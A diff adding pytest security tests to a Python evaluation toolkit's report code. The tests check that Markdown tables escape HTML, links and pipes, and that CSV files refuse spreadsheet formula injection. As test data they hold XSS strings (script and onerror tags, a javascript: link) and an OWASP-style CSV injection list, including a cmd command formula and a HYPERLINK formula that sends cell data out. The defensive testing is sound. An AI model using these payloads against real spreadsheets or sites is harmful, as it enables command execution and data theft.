@@ -10,6 +10,7 @@ while a run runs.
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import os
@@ -417,12 +418,13 @@ def _cells(row: str) -> int:
     return len(re.split(r"(?<!\\)\|", row))
 
 
-@pytest.mark.parametrize("field", ["mode", "policy"])
-def test_text_from_data_cannot_add_a_row_or_a_cell_to_any_table(field):
+def _every_markdown_table(field: str, forged: str) -> dict[str, str]:
+    """Every Markdown table the reports write, of a small grid's rows whose ``field`` (a regime
+    or an agent's label) is ``forged``, with ``forged`` in every other name they take too."""
+    from wpb_gym.cli.episode_sets import markdown_table
     from wpb_gym.evaluation.reports import compare, seed_stats, tables
     from wpb_gym.evaluation.reports.report import leaderboard
 
-    forged = FORGED + " | x \\"
     rows = [dict(row) for row in _rows_of_a_small_grid()]
     for row in rows:
         if row["policy"] == "last_kb" or field == "mode":
@@ -431,16 +433,24 @@ def test_text_from_data_cannot_add_a_row_or_a_cell_to_any_table(field):
     learned = seed_stats.GroupResult(
         (forged, 20, 1024, "unprivileged"), forged, (forged,), 3, (0.5,), 0.5, 0.4, 0.6, 0.1, 0.0, 0.2, (lift,)
     )
-    made = {
+    query_rows = [{**row, "query_accuracy": 0.5, "query_bound": 0.9, "query_feasible": 0.8} for row in rows]
+    return {
         "leaderboard": leaderboard(rows, 1024),
         "paper": tables.paper_tables(rows, "unprivileged", 1024),
         "headroom": tables.headroom_table(rows, highlight=[forged, "fifo_store_all"]),
+        "query headroom": tables.query_headroom_table(query_rows, [forged], run=forged, learned=[forged]),
         "f1_by_budget": tables.f1_by_budget_table(rows),
         "compare": compare.comparison_markdown(compare.compare_runs(rows, rows), "f1", forged, forged, wide=True),
         "ablation": compare.ablation_markdown([rows], [rows], forged, "b"),
         "transfer": tables.transfer_table(rows, [{**r, "mode": "other"} for r in rows]),
         "seeds": seed_stats.seed_table_markdown([learned]),
+        "episodes": markdown_table(["regime", "file"], [[forged, forged]]),
     }
+
+
+@pytest.mark.parametrize("field", ["mode", "policy"])
+def test_text_from_data_cannot_add_a_row_or_a_cell_to_any_table(field):
+    made = _every_markdown_table(field, FORGED + " | x \\")
     for name, text in made.items():
         assert not [line for line in text.splitlines() if line.startswith("| fake")], (name, text)
         assert "x\\n" in text or name == "transfer", (name, text)  # the line break is shown, escaped
@@ -465,6 +475,54 @@ def test_text_from_data_is_shown_on_one_line_in_markdown_and_in_plot_titles():
     assert markdown_text(FORGED) == "x\\n\\| fake \\| 1.000 \\|"
     assert markdown_text("a\\|b") == "a\\\\\\|b"  # a backslash of the data cannot unescape the bar
     assert shown("de\ud800fault") == "de\\ud800fault"  # and what UTF-8 cannot hold is not written as is
+
+
+SCRIPT = "<script>alert(1)</script>"
+
+
+@pytest.mark.parametrize("field", ["mode", "policy"])
+def test_html_from_data_is_escaped_in_every_markdown_table(field):
+    # MkDocs, GitHub and most renderers pass raw HTML through: a regime or label of HTML would
+    # run in the browser of whoever reads a published leaderboard; a link could point anywhere.
+    made = _every_markdown_table(field, f"{SCRIPT}[x](javascript:alert(2))`")
+    for name, text in made.items():
+        assert "<script" not in text and "</script" not in text and "[x](" not in text, (name, text)
+        shown = "&lt;script&gt;alert(1)&lt;/script&gt;\\[x\\](javascript:alert(2))\\`" in text
+        assert shown or (name, field) == ("transfer", "policy"), (name, text)  # (it names regimes only)
+
+
+def test_markdown_text_escapes_html_links_and_code_spans_and_reads_as_the_text():
+    from wpb_gym.evaluation.reports.markdown import markdown_code, markdown_text
+
+    assert markdown_text(SCRIPT) == "&lt;script&gt;alert(1)&lt;/script&gt;"
+    assert markdown_text("&lt; & [a](b) `c`") == "&amp;lt; &amp; \\[a\\](b) \\`c\\`"  # an entity of the data too
+    assert markdown_text("last_kb(k=1)") == "last_kb(k=1)"  # plain names stay as they are
+    # A code span escapes nothing: a name is put in one only when it can be shown there as it is.
+    assert markdown_code("fifo_store_all") == "`fifo_store_all`"
+    for name in (SCRIPT, "a`b", "a|b", "a\\b", "a\nb", "a&b"):
+        assert markdown_code(name) == markdown_text(name), name
+
+
+def test_a_regime_of_html_is_escaped_in_the_leaderboard_and_every_report(tmp_path, capsys):
+    episodes = write_episodes(tmp_path / "ep.jsonl", [SCRIPT, "default"])
+    config = tmp_path / "agents.yaml"
+    config.write_text('agents: [fifo_store_all, {name: last_kb, label: "<img src=x onerror=alert(3)>"}]\n')
+    out = tmp_path / "run"
+    assert wpb(capsys, "eval", "--config", config, "--episodes", episodes, *FROM_FILES[2:], "--out", out)[0] == 0
+    for argv in (["--headroom", "--highlight", "<img src=x onerror=alert(3)>"], ["--f1-by-budget"],
+                 ["--paper-tables", "--track", "unprivileged", "--diagnostics-budget", "1KB"]):
+        assert wpb(capsys, "report", out, *argv)[0] == 0
+    shutil.copytree(out, tmp_path / "again")
+    capsys.readouterr()
+    assert main(["compare", str(out), str(tmp_path / "again")]) == 0
+    pages = {path.name: path.read_text() for path in out.glob("*.md")}
+    pages["compare"] = capsys.readouterr().out
+    assert set(pages) >= {"leaderboard.md", "headroom.md", "f1_by_budget.md", "paper_tables.md", "compare"}
+    for name, text in pages.items():
+        assert "<script" not in text and "<img" not in text, (name, text)
+        assert "&lt;img src=x onerror=alert(3)&gt;" in text, (name, text)
+    for name in ("leaderboard.md", "headroom.md", "f1_by_budget.md", "compare"):
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[name], (name, pages[name])
 
 
 # ---------------------------------------------------------------------------- text that is not text
@@ -496,6 +554,78 @@ def test_an_agent_label_that_is_not_text_is_refused(tmp_path, capsys):
     line = refused(capsys, "eval", "--config", config, "--out", tmp_path / "run", "--quiet")
     assert "label" in line and "surrogate" in line, line
     assert not (tmp_path / "run").exists()
+
+
+# ---------------------------------------------------------------------------- text a spreadsheet would run
+
+# What a spreadsheet opening results.csv would run as a formula (OWASP's CSV injection list).
+FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1)", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            '=HYPERLINK("http://x/?"&A1)']
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+@pytest.mark.parametrize(
+    ("where", "field"),
+    [("mode", "labels.mode"), ("episode_id", "labels.episode_id"), ("step_mode", "steps[0].metadata.mode")],
+)
+def test_spreadsheet_formula_injection_through_an_episode_name_is_refused_when_the_file_is_read(
+    tmp_path, capsys, monkeypatch, where, field, formula
+):
+    data = json.loads(dumps_episode(generate_episode(make_config("default", length=20), 0, 0)))
+    if where == "step_mode":
+        del data["labels"]["mode"]
+        data["steps"][0]["metadata"]["mode"] = formula
+    else:
+        data["labels"][where] = formula
+    episodes = tmp_path / "ep.jsonl"
+    episodes.write_text(json.dumps(data) + "\n")
+    monkeypatch.setattr(grid_module, "run_task", lambda task: pytest.fail("the grid ran"))
+    line = refused(capsys, "eval", "--episodes", episodes, *FROM_FILES, "--out", tmp_path / "run")
+    assert line.startswith(f"wpb eval: error: {episodes}:1: {field}: expected text that a spreadsheet cannot read as "
+                           "a formula"), line
+    assert not (tmp_path / "run").exists()
+    assert f"{episodes}:1: {field}: " in refused(capsys, "inspect", episodes)
+
+
+@pytest.mark.parametrize("label", ["=1+1", "+x", "@x", "-x", "\t=1"])
+def test_spreadsheet_formula_injection_through_an_agent_label_is_refused_before_any_work(tmp_path, capsys, label):
+    config = tmp_path / "c.yaml"
+    config.write_text(f"agents: [{{name: last_kb, label: {json.dumps(label)}}}]\nlengths: [20]\n"
+                      "episodes_per_condition: 1\n")
+    line = refused(capsys, "eval", "--config", config, "--out", tmp_path / "run", "--quiet")
+    assert "label" in line and "formula" in line, line
+    assert not (tmp_path / "run").exists()
+    # The same from Python, where the grid's rows are made.
+    with pytest.raises(ValueError, match="formula"):
+        grid_module.PolicySpec(label, dict)
+    episode = generate_episode(make_config("default", length=20), 0, 0)
+    made = type(episode)(steps=episode.steps, labels={**episode.labels, "mode": label})
+    with pytest.raises(ValueError, match="formula"):
+        grid_module.given_refs([made])
+
+
+def test_no_cell_of_any_csv_file_of_a_run_reads_as_a_formula_and_results_read_back_as_written(tmp_path, capsys):
+    from wpb_gym.core.csv_cells import formula_start
+    from wpb_gym.evaluation.reports.report import read_results
+
+    # Names that only look alike: a number, and "-", "=", "@" inside a name, are not formulas.
+    episodes = write_episodes(tmp_path / "ep.jsonl", ["-1.5", "a=b", "x@y", "default"])
+    data = [json.loads(line) for line in episodes.read_text().splitlines()]
+    data[3]["labels"]["episode_id"] = "-3"
+    episodes.write_text("".join(json.dumps(d) + "\n" for d in data))
+    config = tmp_path / "agents.yaml"
+    config.write_text('agents: [fifo_store_all, {name: last_kb, label: "a+b"}]\n')
+    out = tmp_path / "run"
+    assert wpb(capsys, "eval", "--config", config, "--episodes", episodes, *FROM_FILES[2:], "--out", out)[0] == 0
+    files = sorted(out.glob("*.csv"))
+    assert {p.name for p in files} >= {"results.csv", "summary.csv", "recall_at_budget.csv", "confusion_matrix.csv"}
+    for path in files:
+        with open(path, newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                assert not [cell for cell in row if formula_start(cell)], (path.name, row)
+    rows = read_results(out / "results.csv")
+    assert {r["mode"] for r in rows} == {"-1.5", "a=b", "x@y", "default"}
+    assert {r["policy"] for r in rows} == {"fifo_store_all", "a+b"} and "-3" in {r["episode_id"] for r in rows}
 
 
 # ---------------------------------------------------------------------------- one episode twice
